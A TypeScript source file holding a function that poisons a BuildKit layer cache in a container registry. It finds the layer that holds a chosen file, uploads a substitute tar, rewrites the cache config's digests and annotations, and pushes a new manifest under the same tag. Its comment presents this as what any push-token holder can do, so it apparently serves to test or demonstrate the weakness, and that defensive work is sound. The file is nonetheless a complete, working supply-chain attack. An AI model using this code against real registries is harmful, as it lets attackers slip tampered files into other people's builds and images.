import { createHash } from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import { run } from './services/run.ts';

interface Descriptor {
  digest: string;
  size: number;
  mediaType: string;
  annotations?: Record<string, string>;
}

/** The config of a cache of BuildKit (cache/remotecache/v1/spec.go). */
interface CacheConfig {
  layers: { blob: string; annotations?: Record<string, unknown> }[];
}

/**
 * What anybody with a push token can do to a layer cache in a registry: puts another file in the place of the one layer
 * that holds `file`, by plain requests of the distribution API. `repository` is a path below `url`.
 */
export async function poisonCache(
  url: string,
  cache: { readonly repository: string; readonly tag: string },
  file: { readonly name: string; readonly content: string },
): Promise<void> {
  const root = `${url}/v2/${cache.repository}`;
  const get = async (path: string) => {
    const response = await fetch(`${root}/${path}`, {
      headers: { accept: 'application/vnd.oci.image.manifest.v1+json' },
    });
    if (!response.ok) throw new Error(`GET ${path}: ${response.status}`);
    return Buffer.from(await response.arrayBuffer());
  };
  const put = async (bytes: Buffer) => {
    const digest = digestOf(bytes);
    const begun = await fetch(`${root}/blobs/uploads/`, { method: 'POST' });
    const target = new URL(begun.headers.get('location') ?? '', root);
    target.searchParams.set('digest', digest);
    const done = await fetch(target, {
      method: 'PUT',
      body: new Uint8Array(bytes),
      headers: { 'content-type': 'application/octet-stream' },
    });
    if (!done.ok) throw new Error(`PUT ${digest}: ${done.status}`);
    return { digest, size: bytes.length };
  };

  const manifest = JSON.parse((await get(`manifests/${cache.tag}`)).toString()) as {
    config: Descriptor;
    layers: Descriptor[];
  };
  const config = JSON.parse((await get(`blobs/${manifest.config.digest}`)).toString()) as CacheConfig;
  const blobs = await Promise.all(manifest.layers.map(({ digest }) => get(`blobs/${digest}`)));
  const at = blobs.findIndex((blob) => gunzipSync(blob).subarray(0, 100).toString().startsWith(file.name));
  const layer = manifest.layers[at];
  if (!layer) throw new Error(`no layer of the cache begins with ${file.name}`);

  const tar = await tarOf(file);
  const evil = await put(gzipSync(tar));
  for (const entry of config.layers.filter(({ blob }) => blob === layer.digest)) {
    entry.blob = evil.digest;
    entry.annotations = { ...entry.annotations, size: evil.size, diffID: digestOf(tar) };
  }
  Object.assign(layer, evil);
  if (layer.annotations) layer.annotations['containerd.io/uncompressed'] = digestOf(tar);
  Object.assign(manifest.config, await put(Buffer.from(JSON.stringify(config))));
  const written = await fetch(`${root}/manifests/${cache.tag}`, {
    method: 'PUT',
    body: JSON.stringify(manifest),
    headers: { 'content-type': 'application/vnd.oci.image.manifest.v1+json' },
  });
  if (!written.ok) throw new Error(`PUT manifest: ${written.status} ${await written.text()}`);
}

async function tarOf(file: { readonly name: string; readonly content: string }): Promise<Buffer> {
  const folder = await mkdtemp(join(tmpdir(), 'poison-'));
  try {
    await writeFile(join(folder, file.name), file.content);
    await run('tar', ['-cf', join(folder, 'layer.tar'), '-C', folder, '--owner=0', '--group=0', file.name]);
    return await readFile(join(folder, 'layer.tar'));
  } finally {
    await rm(folder, { recursive: true, force: true });
  }
}

function digestOf(bytes: Buffer): string {
  return `sha256:${createHash('sha256').update(bytes).digest('hex')}`;
}
